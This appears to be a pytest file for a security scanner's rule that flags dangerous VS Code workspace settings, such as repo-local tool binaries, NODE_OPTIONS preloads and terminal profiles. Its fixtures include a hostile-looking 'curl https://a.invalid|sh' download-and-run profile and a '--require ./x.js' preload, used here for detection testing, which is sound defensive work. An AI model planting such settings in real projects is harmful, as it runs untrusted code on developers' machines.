from lazaretto.detect.engine import Engine, FileResult
from lazaretto.detect.rules.repository.editor_settings import RULE
from lazaretto.model.finding import Confidence, Severity
from lazaretto.parse.blob import Blob
from lazaretto.parse.catalog import VIEWS


def examine(path: str, text: str) -> FileResult:
    return Engine([RULE], VIEWS).examine(Blob(path, text.encode()))


def graded(path: str, text: str) -> list[tuple[int, Severity, Confidence]]:
    result = examine(path, text)
    assert result.gaps == ()
    return [(f.locations[0].line, f.severity, f.confidence) for f in result.findings]


def test_a_program_of_the_folder() -> None:
    assert graded(".vscode/settings.json", '{"git.path": "./tools/git"}') == [(1, Severity.MEDIUM, Confidence.MEDIUM)]
    assert graded(".vscode/settings.json", '{"x.serverPath": "${workspaceFolder}/x/ls"}') == [
        (1, Severity.MEDIUM, Confidence.LOW)
    ]


def test_a_preload_in_terminals() -> None:
    text = '{"terminal.integrated.env.linux": {"NODE_OPTIONS": "--require ./x.js"}}'
    assert graded(".vscode/settings.json", text) == [(1, Severity.MEDIUM, Confidence.MEDIUM)]


def test_a_terminal_profile_with_a_download() -> None:
    text = (
        '{"terminal.integrated.profiles.linux": {"b": {"path": "bash", "args": ["-c", "curl https://a.invalid|sh"]}}}'
    )
    assert graded(".vscode/settings.json", text) == [(1, Severity.HIGH, Confidence.HIGH)]


def test_ordinary_settings() -> None:
    text = """{"python.defaultInterpreterPath": ".venv/bin/python", "eslint.nodePath": ".yarn/sdks", "editor.tabSize": 2,
    "terminal.integrated.env.linux": {"NODE_OPTIONS": "--max-old-space-size=4096", "PATH": "x"},
    "typescript.tsdk": "node_modules/typescript/lib", "go.goroot": "/usr/lib/go"}"""
    assert graded(".vscode/settings.json", text) == []


def test_programs_that_the_editor_starts() -> None:
    text = """{"eslint.runtime": "./tools/node", "terminal.integrated.profiles.linux": {"b": {"path": "${workspaceFolder}/t/b.sh"}}}"""
    assert [s.value for s in examine("app/.vscode/settings.json", text).signals] == [
        "open\tapp/tools/node",
        "open\tapp/t/b.sh",
    ]
    assert examine(".vscode/settings.json", """{"git.path": "/usr/bin/git"}""").signals == ()
